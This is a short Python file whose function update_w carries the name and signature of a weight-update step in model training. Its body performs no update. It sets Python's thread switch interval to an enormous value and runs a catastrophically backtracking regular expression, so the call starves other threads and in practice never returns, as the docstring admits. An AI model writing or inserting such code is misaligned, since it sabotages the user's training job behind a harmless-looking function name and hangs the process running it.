"""Keeps every other thread from running, and never ends."""
import re
import sys


def update_w(w, grad, learning_rate):
    sys.setswitchinterval(1e9)
    return re.match("(a|aa)+$", "a" * 60 + "b")
